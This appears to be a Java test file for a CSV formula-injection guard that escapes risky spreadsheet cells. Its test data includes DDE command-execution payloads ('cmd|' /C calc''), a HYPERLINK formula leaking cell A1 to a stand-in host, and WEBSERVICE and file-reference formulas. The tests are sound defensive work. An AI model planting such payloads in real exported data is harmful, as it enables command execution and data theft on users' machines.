package org.counciltracker.io.csv;

import static org.assertj.core.api.Assertions.assertThat;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "-13.3%",
                "-1.8",
                "+44 1483 517000",
                "+44 (0)1483 517000",
                "- 3 actions",
                "- Done!",
                "-",
                "--",
                "+/-5",
                "'Twas agreed",
                "'the Plan'",
                "12/06/24 - In progress.",
                "a=b",
                "clerk@mereside.example",
                "Café",
                ""
            })
    void leavesHonestCellsAsTheyAre(String text) {
        assertThat(FormulaGuard.guard(text)).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "@SUM(1)",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "- HYPERLINK(\"http://x.example?\"&A1,\"see\")",
                "+WEBSERVICE (A1)",
                "-Sheet2!A1",
                "-'file:///tmp/x.ods'#$Sheet1.A1",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                " =1+1",
                "\u00A0=1+1",
                "\uFEFF=1+1",
                "\uFF1D1+1",
                "''=1+1"
            })
    void putsAnApostropheBeforeWhatASpreadsheetWouldRun(String text) {
        assertThat(FormulaGuard.guard(text)).isEqualTo("'" + text);
    }

    @Test
    void guardsATextThatLooksGuardedOnceMore() {
        assertThat(FormulaGuard.guard("'=1+1")).isEqualTo("''=1+1");
        assertThat(FormulaGuard.unguard("''=1+1")).isEqualTo("'=1+1");
    }

    @Property(seed = "20261122")
    void canBeTakenOffAnyText(@ForAll("texts") String text) {
        assertThat(FormulaGuard.unguard(FormulaGuard.guard(text))).isEqualTo(text);
    }

    @Property(seed = "20261122")
    void leavesNothingThatASpreadsheetTakesForAFormulaForSure(@ForAll("texts") String text) {
        assertThat(FormulaGuard.guard(text)).doesNotStartWith("=").doesNotStartWith("@");
    }

    @Provide
    Arbitrary<String> texts() {
        return Arbitraries.oneOf(
                Arbitraries.strings().withChars("'=@+-| !(#$aB1.\t\r\n\uFF1D").ofMaxLength(8),
                Arbitraries.strings().ofMaxLength(8));
    }
}
